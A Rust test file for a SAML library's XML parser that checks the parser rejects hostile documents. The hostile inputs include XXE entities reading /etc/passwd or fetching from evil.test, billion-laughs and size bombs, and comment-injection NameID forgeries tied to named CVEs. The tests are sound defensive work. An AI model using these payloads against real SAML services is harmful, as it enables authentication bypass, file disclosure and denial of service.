//! Documents that take two parsers in two ways, or one parser's time and memory.

use saml::identity_provider::Signed;
use saml::message::MessageError;
use saml::service_provider::ResponseError;
use saml::xml::{Document, Limits, ShapeError, XmlErrorKind};

use super::surgery::{behind, cut_assertion, refused, signed_response};
use crate::assert_matches;

fn kind(xml: &str) -> XmlErrorKind {
    kind_within(xml, &Limits::MESSAGE)
}

fn kind_within(xml: &str, limits: &Limits) -> XmlErrorKind {
    match Document::parse(xml.as_bytes(), limits) {
        Ok(document) => panic!("{document:?} was parsed"),
        Err(error) => error.kind,
    }
}

/// CVE-2025-25291 (ruby-saml): one parser sees a document type, the other what is in it.
#[test]
fn parser_differential_by_document_type() {
    for doctype in [
        "<!DOCTYPE response SYSTEM 'x\"><!--'>",
        "<!DOCTYPE response [ <!ENTITY lt \"&#38;#60;\"> ]>",
        "<!DOCTYPE response>",
        "<!doctype response>",
        "<!ELEMENT a ANY>",
        "\n<!-- first --><!DOCTYPE response PUBLIC \"-//W3C//DTD\" \"http://evil.test/x.dtd\">",
    ] {
        let (_, xml) = signed_response(Signed::Both);
        for limits in [Limits::MESSAGE, Limits::METADATA] {
            assert_eq!(kind_within(&format!("{doctype}{xml}"), &limits), XmlErrorKind::Doctype);
        }
        assert_matches!(kind(&format!("{xml}{doctype}")), XmlErrorKind::Doctype);
    }
    assert_matches!(kind("<a><!DOCTYPE a></a>"), XmlErrorKind::Expected(_));
}

/// External entities, billion laughs, quadratic blow-up, external DTDs, parameter entities.
#[test]
fn entity_bombs() {
    let laughs: String = (1..10).fold("<!ENTITY e0 \"ha\">".to_owned(), |all, n| {
        all + &format!("<!ENTITY e{n} \"{}\">", format!("&e{};", n - 1).repeat(10))
    });
    for (subset, body) in [
        ("<!ENTITY x SYSTEM \"file:///etc/passwd\">", "&x;"),
        ("<!ENTITY x SYSTEM \"http://evil.test/\">", "&x;"),
        ("<!ENTITY % p SYSTEM \"http://evil.test/p.dtd\">%p;", ""),
        (&laughs, "&e9;"),
        (&format!("<!ENTITY x \"{}\">", "a".repeat(10_000)), &"&x;".repeat(1000)),
        ("<!ATTLIST a ID CDATA \"evil\">", ""),
        ("<!NOTATION n SYSTEM \"x\">", ""),
    ] {
        let xml = format!("<!DOCTYPE a [{subset}]><a>{body}</a>");
        assert_eq!(kind(&xml), XmlErrorKind::Doctype);
    }
    for body in [
        "&x;",
        "&amp",
        "&#0;",
        "&#xFFFE;",
        "&#xD800;",
        "&#x110000;",
        "&#+65;",
        "&;",
        "& ",
        "&#x;",
        "&nbsp;",
    ] {
        assert_eq!(kind(&format!("<a>{body}</a>")), XmlErrorKind::Reference, "{body}");
        assert_eq!(kind(&format!("<a b=\"{body}\"/>")), XmlErrorKind::Reference, "{body}");
    }
}

/// CVE-2025-23369 (GHES): entity references that change which node an ID finds. There are no
/// entities here, and nothing is found by ID.
#[test]
fn entity_reference_in_an_id() {
    let (_, xml) = signed_response(Signed::Assertion);
    let xml = xml.replacen("ID=\"_", "ID=\"&idref;_", 1);
    assert_eq!(kind(&xml), XmlErrorKind::Reference);
}

#[test]
fn duplicate_and_prefixed_ids() {
    assert_eq!(kind("<a ID=\"x\"><b ID=\"x\"/></a>"), XmlErrorKind::DuplicateId);
    assert_eq!(kind("<a ID=\"x\"><b Id=\"x\"/></a>"), XmlErrorKind::DuplicateId);
    assert_eq!(kind("<a ID=\"x\"><b id=\"&#120;\"/></a>"), XmlErrorKind::DuplicateId);
    assert_eq!(kind("<a xml:id=\"x\"/>"), XmlErrorKind::PrefixedId);
    let xml = "<p:a xmlns:p=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"x\" p:ID=\"y\"/>";
    assert_eq!(kind(xml), XmlErrorKind::PrefixedId);
    assert_eq!(kind("<a ID=\"x\" ID=\"y\"/>"), XmlErrorKind::DuplicateAttribute);
}

#[test]
fn namespaces_that_mean_two_things() {
    for declaration in [
        "xmlns:p=\"\"",
        "xmlns:xmlns=\"urn:x\"",
        "xmlns:xml=\"urn:x\"",
        "xmlns=\"http://www.w3.org/2000/xmlns/\"",
        "xmlns:p=\"http://www.w3.org/XML/1998/namespace\"",
        "xmlns=\"http://www.w3.org/XML/1998/namespace\"",
    ] {
        assert_eq!(kind(&format!("<a {declaration}/>")), XmlErrorKind::NamespaceDeclaration);
    }
    assert_eq!(kind("<p:a/>"), XmlErrorKind::UndeclaredPrefix);
    assert_eq!(kind("<a p:b=\"\"/>"), XmlErrorKind::UndeclaredPrefix);
    assert_eq!(
        kind("<a xmlns:p=\"urn:1\"/>\n<p:b/>"),
        XmlErrorKind::Expected("the end of the document")
    );
    let xml = "<a xmlns:p=\"urn:1\" xmlns:q=\"urn:1\" p:x=\"\" q:x=\"\"/>";
    assert_eq!(kind(xml), XmlErrorKind::DuplicateAttribute);
    assert_eq!(kind("<a xmlns=\"urn:1\" xmlns=\"urn:2\"/>"), XmlErrorKind::DuplicateAttribute);
}

/// "The Fragile Lock" (2025), CVE-2025-66568: a relative namespace makes canonicalisation fail, and
/// what has no canonical form has the digest of the empty string.
#[test]
fn void_canonicalisation() {
    for uri in
        ["x", "1", "../x", "#", "//host", ":", "1:x", " ", "saml", "urn:a&amp;b", "urn:\u{e9}"]
    {
        assert_eq!(
            kind(&format!("<a xmlns=\"{uri}\"/>")),
            XmlErrorKind::RelativeNamespace,
            "{uri}"
        );
    }
    let (_, xml) = signed_response(Signed::Assertion);
    let xml = xml.replacen("<saml:Assertion ", "<saml:Assertion xmlns:ns=\"1\" ", 1);
    assert_eq!(kind(&xml), XmlErrorKind::RelativeNamespace);
}

/// CDATA and processing instructions have no use in a message, and parsers that disagree on them.
#[test]
fn cdata_and_processing_instructions() {
    let (_, xml) = signed_response(Signed::Assertion);
    let name = "alice@example.com";
    for (new, what) in [
        ("<![CDATA[alice@example.com]]>", "a CDATA section"),
        ("alice<![CDATA[]]>@example.com", "a CDATA section"),
        ("<?x?>alice@example.com", "a processing instruction"),
    ] {
        assert_eq!(kind(&xml.replace(name, new)), XmlErrorKind::Editorial(what));
    }
    assert_eq!(kind(&format!("<?x?>{xml}")), XmlErrorKind::Editorial("a processing instruction"));
}

/// CVE-2017-11427 and its family: C14N drops comments, and a reader stops at one.
#[test]
fn comment_in_a_name() {
    let (world, xml) = signed_response(Signed::Both);
    for (old, new) in [
        ("alice@example.com", "alice@example.com<!---->.evil.test"),
        ("alice@example.com", "<!---->alice@example.com"),
        ("alice@example.com", "alice@example.com<!---->"),
        ("https://sp.example/metadata", "https://sp.example/<!-- x -->metadata"),
        (">staff<", ">st<!---->aff<"),
    ] {
        let error = refused(&world, &xml.replacen(old, new, 1));
        assert_matches!(
            error,
            ResponseError::Message(MessageError::Shape(ShapeError::NotPlainText { .. }))
                | ResponseError::Signature(_)
        );
    }
    // Beside the signed bytes it changes nothing, and the signature does hold.
    let error = refused(&world, &xml.replacen("alice@", "alice<!---->@", 1));
    assert_matches!(
        error,
        ResponseError::Message(MessageError::Shape(ShapeError::NotPlainText { .. }))
    );
    // Between elements a comment has nothing to cut.
    world.receive(&behind(&xml, "</saml:Subject>", "<!-- harmless -->")).unwrap();
}

#[test]
fn elements_in_a_name() {
    let (world, xml) = signed_response(Signed::Assertion);
    let xml = xml.replace("alice@example.com", "alice@example.com<b/>");
    assert_matches!(refused(&world, &xml), ResponseError::Signature(_));
}

#[test]
fn other_encodings() {
    let (_, xml) = signed_response(Signed::Assertion);
    let utf16: Vec<u8> = xml.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let error = Document::parse(&utf16, &Limits::MESSAGE).unwrap_err();
    assert_matches!(error.kind, XmlErrorKind::NotUtf8 | XmlErrorKind::Character);
    for name in ["ISO-8859-1", "UTF-7", "UTF-16", "x"] {
        let xml = format!("<?xml version=\"1.0\" encoding=\"{name}\"?>{xml}");
        assert_eq!(kind(&xml), XmlErrorKind::NotUtf8);
    }
    for declaration in [
        "<?xml version=\"1.1\"?>",
        "<?xml encoding=\"UTF-8\"?>",
        "<?xml ?>",
        "<?xml version=\"1.0\" standalone=\"yes\" encoding=\"UTF-8\"?>",
        "<?xml version=\"1.0\" version=\"1.0\"?>",
    ] {
        assert_matches!(kind(&format!("{declaration}<a/>")), XmlErrorKind::Expected(_));
    }
    let good = format!("\u{feff}<?xml version='1.0' encoding='utf-8' standalone='no' ?>\n{xml}");
    Document::parse(good.as_bytes(), &Limits::MESSAGE).unwrap();
    assert_matches!(kind("\u{feff}\u{feff}<a/>"), XmlErrorKind::Expected(_));
}

/// 10,000 elements within each other, attributes without end, and other ways to make work.
#[test]
fn documents_that_cost_too_much() {
    let limits = Limits::MESSAGE;
    let deep = "<a>".repeat(10_000);
    assert_matches!(kind(&deep), XmlErrorKind::TooMuch { what: "elements within elements", .. });
    let attributes: String = (0..10_000).map(|n| format!(" a{n}=\"\"")).collect();
    assert_matches!(
        kind(&format!("<a{attributes}/>")),
        XmlErrorKind::TooMuch { what: "attributes", .. }
    );
    let declarations: String = (0..10_000).map(|n| format!(" xmlns:a{n}=\"urn:x\"")).collect();
    assert_matches!(
        kind(&format!("<a{declarations}/>")),
        XmlErrorKind::TooMuch { what: "attributes", .. }
    );
    let nested: String = (0..40)
        .map(|n| format!("<a xmlns:a{n}=\"urn:x\" xmlns:b{n}=\"urn:x\" xmlns:c{n}=\"urn:x\" xmlns:d{n}=\"urn:x\">"))
        .collect();
    assert_matches!(kind(&nested), XmlErrorKind::TooMuch { what: "namespace declarations", .. });
    let many = format!("<a>{}</a>", "<b/>".repeat(20_000));
    assert_matches!(kind(&many), XmlErrorKind::TooMuch { what: "nodes", .. });
    let long = format!("<a>{}</a>", "b".repeat(limits.bytes));
    assert_matches!(kind(&long), XmlErrorKind::TooMuch { what: "bytes", .. });
}

/// Whatever follows the document is none of it.
#[test]
fn text_behind_the_document() {
    let (_, xml) = signed_response(Signed::Assertion);
    for tail in ["x", "<a/>", "&amp;", "<![CDATA[x]]>", "\0"] {
        assert_matches!(
            kind(&format!("{xml}{tail}")),
            XmlErrorKind::Expected(_) | XmlErrorKind::Character | XmlErrorKind::Doctype
        );
    }
    let (before, assertion, after) = cut_assertion(&xml);
    assert_matches!(kind(&[before, assertion].concat()), XmlErrorKind::Expected("an end tag"));
    assert_matches!(
        kind(&[before, after].concat().replace("</samlp:Response>", "</saml:Response>")),
        XmlErrorKind::EndTag
    );
}
